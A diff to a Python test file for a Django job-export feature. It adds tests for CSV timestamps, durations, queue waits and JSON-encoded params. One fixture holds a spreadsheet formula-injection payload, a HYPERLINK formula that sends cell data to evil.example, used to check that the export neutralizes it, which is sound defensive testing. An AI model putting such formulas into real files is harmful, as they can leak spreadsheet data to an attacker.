@@ -2,10 +2,16 @@
 
 import csv
 import io
+import json
+from datetime import UTC, datetime, timedelta
+from typing import Any, cast
 
 import pytest
 
-from jobs.kinds.export_jobs import _neutralize
+from jobs.kinds.export_jobs import ExportParams, _neutralize
+from jobs.kinds.export_jobs import run as export_run
+from jobs.models import Job, JobState
+from tests.jobs.factories import make_job
 
 # Every character a spreadsheet starts a formula with: ASCII, fullwidth (what a Japanese or Chinese
 # IME types), the small forms, and the Unicode minus sign.
@@ -106,3 +112,70 @@ def test_the_export_quotes_every_formula_cell_it_writes(make_user, tmp_path):
     for row in rows:
         for cell in row.values():
             assert not cell or cell.startswith("'") or cell.lstrip()[:1].isalnum() or cell[:1] == "{", cell
+
+
+def exported_rows(owner_id, directory) -> dict[str, dict[str, str]]:
+    """The export ``owner_id`` gets, read back as CSV: its rows by job id."""
+    ctx = FakeContext(owner_id, directory)
+    export_run(cast(Any, ctx), ExportParams.model_validate({}))
+    with ctx.path.open(newline="", encoding="utf-8") as written:
+        reader = csv.DictReader(written)
+        rows = {row["id"]: row for row in reader}
+    assert reader.fieldnames == [
+        "id", "kind", "state", "created_at", "started_at", "finished_at", "duration_seconds",
+        "queue_wait_seconds", "progress_current", "progress_total", "error", "params",
+    ]  # fmt: skip
+    return rows
+
+
+@pytest.mark.django_db
+def test_the_export_has_iso_times_duration_and_queue_wait_in_seconds(make_user, tmp_path):
+    owner = make_user()
+    created = datetime(2026, 3, 1, 9, 0, 0, tzinfo=UTC)
+    done = make_job(owner=owner, state=JobState.SUCCEEDED, started_at=created + timedelta(seconds=2.5),
+                    finished_at=created + timedelta(seconds=74.25))  # fmt: skip
+    running = make_job(owner=owner, state=JobState.RUNNING, started_at=created + timedelta(seconds=0.125))
+    waiting = make_job(owner=owner, state=JobState.QUEUED)
+    # The worker's clock a little behind the web's: never a negative wait.
+    skewed = make_job(owner=owner, state=JobState.SUCCEEDED, started_at=created - timedelta(seconds=0.2),
+                      finished_at=created + timedelta(seconds=1))  # fmt: skip
+    Job.objects.filter(pk__in=[done.pk, running.pk, waiting.pk, skewed.pk]).update(created_at=created)
+
+    rows = exported_rows(owner.pk, tmp_path)
+
+    row = rows[str(done.pk)]
+    assert row["created_at"] == "2026-03-01T09:00:00+00:00"
+    assert datetime.fromisoformat(row["started_at"]) == created + timedelta(seconds=2.5)
+    assert datetime.fromisoformat(row["finished_at"]).utcoffset() == timedelta(0)
+    timings = {
+        name: (rows[str(job.pk)]["duration_seconds"], rows[str(job.pk)]["queue_wait_seconds"])
+        for name, job in [("done", done), ("running", running), ("waiting", waiting), ("skewed", skewed)]
+    }
+    assert timings == {
+        "done": ("71.75", "2.5"),
+        "running": ("", "0.125"),
+        "waiting": ("", ""),
+        "skewed": ("1.2", "0.0"),
+    }
+    assert rows[str(waiting.pk)]["started_at"] == ""
+
+
+@pytest.mark.django_db
+def test_params_are_json_that_reads_back_even_when_their_values_look_like_formulas(make_user, tmp_path):
+    owner = make_user()
+    hostile = {
+        "title": '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
+        "body": "+1\n@SUM(A1)\t-2",
+        "n": 10_000_000_000,
+        "ratio": -0.5,
+        "flag": True,
+        "nothing": None,
+        "name": "Zoë 😀 \uff1d1",
+    }
+    job = make_job(owner=owner, state=JobState.SUCCEEDED, params=hostile)
+
+    (row,) = exported_rows(owner.pk, tmp_path).values()
+
+    assert row["id"] == str(job.pk)
+    assert row["params"].startswith("{") and "\n" not in row["params"]  # a spreadsheet reads it as text
+    assert json.loads(row["params"]) == hostile  # JSON, not a Python repr ({'n': ...}, True, None)
